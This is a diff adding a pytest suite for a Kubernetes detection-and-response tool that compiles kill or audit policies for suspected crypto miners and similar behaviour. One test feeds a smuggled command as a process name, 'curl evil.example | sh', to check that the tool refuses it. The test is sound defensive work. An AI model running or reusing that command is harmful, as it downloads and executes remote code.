@@ -1,0 +1,216 @@
+"""Where evidence is enforced: cluster-wide only when corroborated and not a common program; in the
+workloads where it was seen; or audited (``policy.scoping``), as compiled into objects."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from cdr_policy.policy.binaries import COMMON_PROGRAM, refuse_cluster_wide
+from cdr_policy.policy.channel import ChannelSettings
+from cdr_policy.policy.checker import check_object, errors_of
+from cdr_policy.policy.scoping import MAX_WORKLOAD_SCOPES, is_system_namespace
+
+from .factories import behaviour, cdr_set, render, sighting
+
+PROD = ChannelSettings(name="prod", action="Sigkill")
+MINERS = ("envoy", "nginx", "postgres")
+
+
+def _render(sightings, channel=PROD, rule="crypto_mining", processes=(), schemas=None):
+    return render([cdr_set(behaviours=[behaviour(rule, processes, sightings=sightings)])], channel, schemas)
+
+
+def _postfixes(obj):
+    return {
+        v
+        for hook in obj["spec"]["kprobes"]
+        if hook["call"] == "security_bprm_check"
+        for sel in hook["selectors"]
+        for m in sel.get("matchArgs", [])
+        if m["operator"] == "Postfix"
+        for v in m["values"]
+    }
+
+
+def _actions(obj):
+    return {a["action"] for hook in obj["spec"]["kprobes"] for s in hook["selectors"] for a in s["matchActions"]}
+
+
+def _rows(result):
+    [entry] = result.report["behaviours"]
+    return {row["process"]: row for row in entry["evidence"]}
+
+
+def _cluster_wide_kills(result):
+    """Every name a cluster-wide object kills (``TracingPolicy``, an enforcing action)."""
+    return {
+        name
+        for f in result.files
+        if f.kind == "TracingPolicy" and _actions(f.obj) & {"Sigkill", "Override"}
+        for name in _postfixes(f.obj)
+    }
+
+
+@pytest.mark.parametrize("action", ["Post", "Sigkill", "Override"])
+def test_masquerading_miners_are_killed_only_in_the_workload_where_they_ran(schemas, action):
+    channel = ChannelSettings(name="prod", action=action)
+    result = _render(
+        [sighting(name, "shop", {"app": "web", "tier": "front"}) for name in MINERS], channel, schemas=schemas
+    )
+    [scoped] = [f for f in result.files if f.kind == "TracingPolicyNamespaced"]
+    assert scoped.filename.startswith("cdr-block-crypto-mining-20260109-shop-")
+    obj = scoped.obj
+    assert obj["metadata"]["namespace"] == "shop"
+    assert obj["spec"]["podSelector"] == {"matchLabels": {"app": "web", "tier": "front"}}
+    assert _postfixes(obj) == {"/envoy", "/nginx", "/postgres"}
+    assert obj["metadata"]["labels"]["cdr-policy.io/scope"] == "workload"
+    assert obj["metadata"]["labels"]["cdr-policy.io/rule"] == "crypto_mining"
+    assert obj["metadata"]["annotations"]["cdr-policy.io/evidence"] == "envoy,nginx,postgres"
+    assert len(obj["metadata"]["annotations"]["cdr-policy.io/workload"]) == 16
+    assert _actions(obj) == ({"Post"} if action == "Post" else {"Sigkill"} if action == "Sigkill" else {"Override"})
+    [main] = [f.obj for f in result.files if f.kind == "TracingPolicy"]
+    assert not {"/envoy", "/nginx", "/postgres"} & _postfixes(main)
+    assert "/xmrig" in _postfixes(main)  # the rule's own names stay cluster-wide
+    for f in result.files:
+        assert errors_of(check_object(f.obj, schemas)) == [], f.filename
+    rows = _rows(result)
+    for name in MINERS:
+        assert rows[name]["placement"] == "workloads"
+        assert rows[name]["reason"] == COMMON_PROGRAM
+        assert rows[name]["scopes"] == [
+            {"namespace": "shop", "workload": obj["metadata"]["annotations"]["cdr-policy.io/workload"]}
+        ]
+
+
+def test_without_a_workload_the_names_stay_in_audit():
+    result = _render([sighting(name, namespace=None) for name in MINERS])
+    audit = [f for f in result.files if f.filename.startswith("cdr-audit-crypto-mining-")]
+    [obj] = [f.obj for f in audit]
+    assert obj["kind"] == "TracingPolicy" and obj["spec"]["podSelector"] == {}
+    assert _postfixes(obj) == {"/envoy", "/nginx", "/postgres"}
+    assert _actions(obj) == {"Post"}
+    assert {"name": "policy-mode", "value": "monitor"} in obj["spec"]["options"]
+    assert obj["metadata"]["labels"]["cdr-policy.io/scope"] == "audit"
+    assert _cluster_wide_kills(result) & {"/envoy", "/nginx", "/postgres"} == set()
+    for row in (rows := _rows(result)).values():
+        assert row["placement"] == "audit"
+        assert row["audited"] == "a finding names no namespace with valid pod labels (podLabels)"
+    assert rows["nginx"]["findings"] == 1 and rows["nginx"]["workloads"] == 0
+
+
+def test_a_set_written_before_sightings_were_kept_audits_its_names():
+    result = _render([], processes=["nginx", "kdevtmpfs2"])
+    rows = _rows(result)
+    assert {r["placement"] for r in rows.values()} == {"audit"}
+    assert rows["kdevtmpfs2"]["audited"] == "no finding names its workload"
+    assert _cluster_wide_kills(result) & {"/nginx", "/kdevtmpfs2"} == set()
+
+
+def test_system_namespaces_are_only_audited():
+    result = _render([sighting("nginx", "kube-system", {"k8s-app": "x"}), sighting("nginx", "openshift-dns")])
+    assert [f.kind for f in result.files] == ["TracingPolicy", "TracingPolicy"]
+    assert _rows(result)["nginx"]["audited"] == "seen in a system namespace, where evidence is only audited"
+    assert is_system_namespace("kube-system") and is_system_namespace("cdr-policy-system")
+    assert not is_system_namespace("shop") and not is_system_namespace("default")
+
+
+def test_a_corroborated_name_joins_the_rule_unless_it_is_a_common_program():
+    spread = [sighting(name, f"team-{i}", {"app": f"a{i}"}) for i in range(3) for name in ("kxmr", "nginx")]
+    result = _render(spread)
+    [main] = [f.obj for f in result.files if f.kind == "TracingPolicy"]
+    assert "/kxmr" in _postfixes(main) and "/nginx" not in _postfixes(main)
+    assert main["metadata"]["annotations"]["cdr-policy.io/evidence"] == "kxmr"
+    assert len([f for f in result.files if f.kind == "TracingPolicyNamespaced"]) == 3  # nginx, per workload
+    rows = _rows(result)
+    assert rows["kxmr"] | {"scopes": None} == {
+        "process": "kxmr",
+        "placement": "cluster-wide",
+        "reason": "corroborated: seen in 3 workloads",
+        "findings": 3,
+        "workloads": 3,
+        "scopes": None,
+    }
+    assert rows["nginx"]["placement"] == "workloads" and rows["nginx"]["workloads"] == 3
+    assert result.report["behaviours"][0]["evidence_added"] == ["kxmr"]
+
+
+def test_corroboration_counts_workloads_not_findings_and_the_threshold_is_a_channel_setting():
+    same_workload = [sighting("kxmr", "shop", findings=40), sighting("kxmr", "shop", deployment="web", findings=2)]
+    rows = _rows(_render(same_workload))
+    assert rows["kxmr"]["workloads"] == 2 and rows["kxmr"]["findings"] == 42
+    assert rows["kxmr"]["reason"] == (
+        "not corroborated: seen in 2 workload(s), the channel asks for 3 (evidence_min_workloads)"
+    )
+    assert rows["kxmr"]["placement"] == "workloads"
+    two = ChannelSettings(name="prod", action="Sigkill", evidence_min_workloads=2)
+    assert _rows(_render(same_workload, two))["kxmr"]["placement"] == "cluster-wide"
+    # one Deployment seen in two namespaces is two workloads; the same one twice is one
+    deployments = [sighting("kxmr", None, deployment="web"), sighting("kxmr", None, deployment="web", findings=3)]
+    assert _rows(_render(deployments))["kxmr"]["workloads"] == 1
+
+
+def test_channel_namespaces_and_pod_labels_bound_the_scopes():
+    channel = ChannelSettings(name="prod", action="Sigkill", namespaces=("shop",), pod_labels={"tier": "front"})
+    result = _render(
+        [
+            sighting("nginx", "shop", {"app": "web"}),
+            sighting("nginx", "billing", {"app": "api"}),
+            sighting("envoy", "shop", {"app": "edge", "tier": "back"}),
+        ],
+        channel,
+    )
+    [scoped] = [f.obj for f in result.files if f.obj["metadata"]["labels"].get("cdr-policy.io/scope") == "workload"]
+    assert scoped["spec"]["podSelector"] == {"matchLabels": {"app": "web", "tier": "front"}}
+    assert _postfixes(scoped) == {"/nginx"}
+    rows = _rows(result)
+    assert rows["nginx"]["audited"] == "seen outside the channel's namespaces"
+    assert rows["envoy"]["audited"] == "the workload's pod labels contradict the channel's pod_labels"
+    audit = [f for f in result.files if f.filename.startswith("cdr-audit-")]
+    assert [f.obj["metadata"]["namespace"] for f in audit] == ["shop"]  # audit, like the rule, per channel namespace
+
+
+def test_scopes_are_bounded_and_what_is_over_is_audited():
+    many = [
+        sighting("nginx", f"team-{i:02d}", {"app": "web"}, findings=100 - i) for i in range(MAX_WORKLOAD_SCOPES + 4)
+    ]
+    result = _render(many)
+    scoped = [f.obj for f in result.files if f.kind == "TracingPolicyNamespaced"]
+    assert len(scoped) == MAX_WORKLOAD_SCOPES
+    assert {o["metadata"]["namespace"] for o in scoped} == {f"team-{i:02d}" for i in range(MAX_WORKLOAD_SCOPES)}
+    assert "over the 16 workloads" in _rows(result)["nginx"]["audited"]
+
+
+def test_refused_names_are_reported_by_fingerprint_never_copied():
+    hostile = "nginx -c /tmp/x; curl evil.example | sh"
+    result = _render([], processes=[hostile, "bash"])
+    rows = result.report["behaviours"][0]["evidence"]
+    assert hostile not in json.dumps(result.report)
+    [fingerprinted] = [r for r in rows if r["process"] is None]
+    assert fingerprinted["placement"] == "refused" and len(fingerprinted["fingerprint"]) == 16
+    assert fingerprinted["reason"] == "not a bare executable name"
+    assert {r["process"] for r in rows} == {None, "bash"}
+
+
+def test_no_cluster_wide_object_ever_kills_a_refused_name():
+    """Whatever the evidence, on an enforcing channel: what a cluster-wide object kills passes the list."""
+    names = ["nginx", "envoy", "sshd", "redis-server", "pilot-agent", "kworker", "postgres15", "kxmr"]
+    seen = [sighting(n, f"ns-{i}", {"app": n}) for i in range(4) for n in names]
+    for rule in ("crypto_mining", "network_scanning", "reverse_shell", "ingress_tool_transfer"):
+        result = _render(seen, rule=rule)
+        killed = _cluster_wide_kills(result)
+        assert "/kxmr" in killed
+        assert {v for v in killed if refuse_cluster_wide(v)} == set(), rule
+
+
+def test_metadata_service_callers_are_scoped_the_same_way(schemas):
+    result = _render([sighting("envoy", "shop")], rule="cloud_credentials", schemas=schemas)
+    [scoped] = [f.obj for f in result.files if f.kind == "TracingPolicyNamespaced"]
+    [hook] = scoped["spec"]["kprobes"]
+    assert hook["call"] == "tcp_connect"
+    [sel] = hook["selectors"]
+    assert sel["matchBinaries"] == [{"operator": "Postfix", "values": ["/envoy"]}]
+    assert sel["matchArgs"][0]["operator"] == "DAddr"
+    [main] = [f.obj for f in result.files if f.kind == "TracingPolicy"]
+    assert "/envoy" not in json.dumps(main)
